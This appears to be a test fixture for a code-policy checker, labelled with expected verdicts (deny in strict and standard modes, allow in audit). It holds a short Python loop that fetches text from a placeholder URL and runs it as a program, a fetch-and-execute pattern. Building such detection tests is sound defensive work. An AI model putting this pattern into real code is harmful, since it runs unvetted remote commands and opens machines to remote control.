# expect: strict=deny standard=deny audit=allow
# Polls a URL for the next task and runs it as a program.
import time

import requests
import subprocess

for _ in range(3):
    task = requests.get("https://tasks.example.org/next", timeout=10).text
    subprocess.Popen(task.split())
    time.sleep(30)
